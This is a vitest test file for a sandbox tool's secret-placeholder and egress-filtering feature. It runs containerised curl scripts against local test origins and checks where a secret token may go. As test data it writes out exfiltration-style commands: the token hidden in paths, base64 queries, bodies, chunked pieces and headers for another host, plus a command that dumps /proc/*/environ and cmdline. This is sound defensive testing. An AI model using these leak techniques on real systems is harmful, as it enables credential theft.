import { readFile, writeFile } from "node:fs/promises";
import type { IncomingMessage, ServerResponse } from "node:http";
import { text } from "node:stream/consumers";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startCli } from "../lab/cli.ts";
import { dockerCli } from "../lab/engine-api.ts";
import { TEST_IMAGES } from "../lab/images.ts";
import { startWebOrigins, type WebOrigins } from "../lab/origins.ts";
import { runJson } from "../lab/run-json.ts";
import { type TempDirectory, tempDirectory } from "../lab/temp-directory.ts";
import { containersOfOwner } from "../lab/traces.ts";

const OWN = "own.example.com";
const OTHER = "other.example.com";
const VALUE = "k3y-with+odd/chars=&e-0123456789";
const HEADER_VALUE = "k3y-with+odd/chars=-0123456789";

type Arrived = { readonly host: string; readonly url: string; readonly headers: Readonly<Record<string, unknown>>; readonly body: string };

let own: WebOrigins;
let other: WebOrigins;
let place: TempDirectory;
let arrived: Arrived[] = [];
let answered = 0;

/** Writes down what arrives; echoes it back where it is asked to. */
function answer(request: IncomingMessage, response: ServerResponse): void {
  void text(request).then((body) => {
    arrived.push({ host: request.headers.host ?? "", url: request.url ?? "", headers: request.headers, body });
    answered += 1;
    const authorization = request.headers.authorization ?? "";
    if (request.url === "/echo") {
      response.setHeader("X-Echo", authorization);
      response.setHeader("Content-Type", "application/json");
      for (const piece of JSON.stringify({ authorization, base64: Buffer.from(authorization).toString("base64") }).match(/.{1,7}/gs) ?? [])
        response.write(piece);
      return response.end();
    }
    if (request.url === "/gzip") return response.writeHead(200, { "Content-Encoding": "gzip" }).end(gzipSync("plain"));
    if (request.url === "/expired" && authorization !== "Bearer fresh-value-2") return response.writeHead(401).end("no");
    return response.end(`seen ${answered}`);
  });
}

beforeAll(async () => {
  [own, other, place] = await Promise.all([startWebOrigins(OWN, answer), startWebOrigins(OTHER, answer), tempDirectory()]);
  await writeFile(place.join("roots.pem"), `${own.certificate.cert}\n${other.certificate.cert}\n`);
});
afterAll(async () => {
  for (const each of [own, other, place]) await each[Symbol.asyncDispose]();
});
beforeEach(() => {
  arrived = [];
});

const rules = () => [own.http, own.https, other.http, other.https].flatMap(({ rule }) => ["--allow", rule]);
const env = (more: Readonly<Record<string, string>> = {}) => ({ SSL_CERT_FILE: place.join("roots.pem"), TOKEN: HEADER_VALUE, ...more });

/** A shell script in the base image, with the secret TOKEN for one host. */
function sh(
  script: string,
  { flags = ["--secret", `TOKEN@${OWN}`], more = {} }: { flags?: readonly string[]; more?: Readonly<Record<string, string>> } = {},
) {
  return runJson(["--image", TEST_IMAGES.debian, ...flags, ...rules(), "--", "sh", "-c", script], { env: env(more) });
}

const said = (run: Awaited<ReturnType<typeof sh>>): string => ("text" in run.result.stdout ? (run.result.stdout.text ?? "") : "");
const denials = (run: Awaited<ReturnType<typeof sh>>): string =>
  JSON.stringify(run.result.egress.filter(({ decision }) => decision === "denied"));

/** The forms in which a value could hide. */
function formsOf(value: string): readonly string[] {
  const bytes = Buffer.from(value);
  const aligned = [0, 1, 2].map((shift) =>
    Buffer.concat([Buffer.alloc(shift), bytes])
      .toString("base64")
      .slice(shift === 0 ? 0 : 4, -4),
  );
  return [value, encodeURIComponent(value), JSON.stringify(value).slice(1, -1), bytes.toString("hex"), ...aligned];
}

describe("a secret", () => {
  it("reaches its own host in a header and in Basic authentication, plain and inside of TLS, while the command knows a placeholder", async () => {
    const run = await sh(
      [
        `echo "$TOKEN"`,
        ...[own.http.url, own.https.url].map(
          (url) => `curl -sS ${url}/a -H "Authorization: Bearer $TOKEN"; curl -sS ${url}/b -u "me:$TOKEN"`,
        ),
      ].join("\n"),
    );
    expect(said(run)).toMatch(/^sbx-secret-TOKEN-[0-9a-f]{32}\nseen/);
    const basic = `Basic ${Buffer.from(`me:${HEADER_VALUE}`).toString("base64")}`;
    expect(arrived.map(({ headers }) => headers["authorization"])).toEqual([
      `Bearer ${HEADER_VALUE}`,
      basic,
      `Bearer ${HEADER_VALUE}`,
      basic,
    ]);
    expect(run.result.egress.every(({ decision }) => decision === "allowed")).toBe(true);
  });

  it.each([
    ["in a header for another host", () => `curl -sS ${other.http.url}/ -H "X: $TOKEN"; curl -sS ${other.https.url}/ -H "X: $TOKEN"`],
    ["in a path", () => `curl -sS "${own.https.url}/$TOKEN"`],
    ["in a query, as base64", () => `curl -sS "${own.https.url}/?q=$(printf 'x%s' "$TOKEN" | base64 -w0)"`],
    ["in a body", () => `curl -sS ${own.https.url}/ -d "token=$TOKEN"`],
    ["in the name of a header", () => `curl -sS ${own.https.url}/ -H "$TOKEN: x"`],
    [
      "in a body that comes in two pieces",
      () =>
        `(printf '%s' "$TOKEN" | cut -c1-20 | tr -d '\\n'; sleep 0.2; printf '%s' "$TOKEN" | cut -c21-) | curl -sS -T - -H 'Transfer-Encoding: chunked' ${own.https.url}/`,
    ],
  ])("is refused %s, and the origin sees nothing of it", async (_where, script) => {
    const run = await sh(`${script()}; curl -sS ${own.https.url}/control -H "Authorization: $TOKEN"`);
    expect(denials(run)).toContain("the secret TOKEN");
    expect(
      arrived
        .filter(({ url }) => url !== "/control")
        .map((each) => JSON.stringify(each))
        .join(),
    ).not.toContain("sbx-secret");
    expect(arrived.filter(({ headers }) => headers["authorization"] === HEADER_VALUE)).toHaveLength(1);
  });

  it("is a placeholder again where the origin sends it back, in headers and in text, also as base64 and over pieces", async () => {
    const run = await sh(
      `curl -sS -i ${own.https.url}/echo -H "Authorization: Bearer $TOKEN"; curl -sS --compressed ${own.https.url}/gzip`,
    );
    expect(arrived[0]?.headers["authorization"]).toBe(`Bearer ${HEADER_VALUE}`);
    expect(said(run)).toMatch(/X-Echo: Bearer sbx-secret-TOKEN-/i);
    for (const form of formsOf(HEADER_VALUE)) expect(said(run)).not.toContain(form);
    expect(said(run)).toMatch(/plain$/);
  });

  it("is read again when the origin does not take it any more, and the request is sent once more", async () => {
    await writeFile(place.join("count"), "0");
    const command = `n=$(($(cat ${place.join("count")})+1)); echo $n > ${place.join("count")}; echo fresh-value-$n`;
    const run = await sh(`curl -sS ${own.https.url}/expired -H "Authorization: Bearer $TOKEN"`, {
      flags: ["--secret", `TOKEN=cmd:${command}@${OWN}`],
    });
    expect(said(run)).toMatch(/^seen/);
    expect(arrived.map(({ headers }) => headers["authorization"])).toEqual(["Bearer fresh-value-1", "Bearer fresh-value-2"]);
  });

  it("whose source fails is an answer that says so, and nothing is sent", async () => {
    const run = await sh(`curl -sS ${own.https.url}/ -H "Authorization: $TOKEN"; echo on`, {
      flags: ["--secret", `TOKEN=file:/does/not/exist@${OWN}`],
    });
    expect(said(run)).toMatch(/"error":"sandbox: unreachable".*TOKEN.*\non\n$/s);
    expect(arrived).toEqual([]);
  });

  it("goes into a body where a task file says so, with the right length, and into its own header only", async () => {
    const rule = `{ host: ${OWN}, port: ${own.https.port}, address: 127.0.0.1, ca: ./roots.pem }`;
    const secret = `{ from: env:TOKEN, hosts: [${OWN}], header: X-Key, in: [header, body] }`;
    await writeFile(place.join("task.yaml"), `version: 1\negress: [${rule}]\nsecrets: { TOKEN: ${secret} }\n`);
    const script = `curl -sS ${own.https.url}/ -H "X-Key: $TOKEN" --json "{\\"key\\": \\"$TOKEN\\"}"; curl -sS ${own.https.url}/ -H "X-Other: $TOKEN"`;
    const run = await runJson(["--image", TEST_IMAGES.debian, "-f", place.join("task.yaml"), "--", "sh", "-c", script], {
      env: env({ TOKEN: VALUE }),
    });
    expect(arrived.map(({ headers, body }) => ({ key: headers["x-key"], body }))).toEqual([{ key: VALUE, body: `{"key": "${VALUE}"}` }]);
    expect(denials(run)).toContain("X-Key only");
  });

  it("is nowhere else: not inside, not in events or errors, not on the engine, not in the command lines of this machine", {
    timeout: 60_000,
  }, async () => {
    const search = "cat /proc/*/environ /proc/*/cmdline /tmp/* /workspace/* 2>/dev/null | base64 -w0; env";
    const script = `curl -sS ${own.https.url}/echo -H "Authorization: Bearer $TOKEN"; ${search}; curl -sS ${other.https.url}/ -H "X: $TOKEN"; echo wait''ing; sleep 1000`;
    const flags = [
      "--events",
      "--verbose",
      "--result",
      place.join("result.json"),
      "--image",
      TEST_IMAGES.debian,
      "--secret",
      `TOKEN@${OWN}`,
    ];
    const cli = startCli(["run", ...flags, ...rules(), "--", "sh", "-c", script], { env: env() });
    await cli.waitFor("waiting");
    const [container = ""] = await containersOfOwner(cli.pid);
    const inspected = await dockerCli(["inspect", container]);
    const lines = await dockerCli(["ps", "--no-trunc"]);
    cli.child.kill("SIGTERM");
    const { stdout, stderr } = await cli.done;
    const everything = [stdout, stderr, inspected, lines, await readFile(place.join("result.json"), "utf8")].join("\n");
    const encoded = everything.match(/[A-Za-z0-9+/=]{200,}/g)?.map((found) => Buffer.from(found, "base64").toString("latin1")) ?? [];
    expect(arrived[0]?.headers["authorization"]).toBe(`Bearer ${HEADER_VALUE}`);
    expect(everything).toContain("sbx-secret-TOKEN-");
    expect(everything).toContain("secret.used");
    for (const form of formsOf(HEADER_VALUE))
      expect(`${everything}${encoded.join("\n")}`.includes(form) ? form : "nowhere").toBe("nowhere");
  });
});
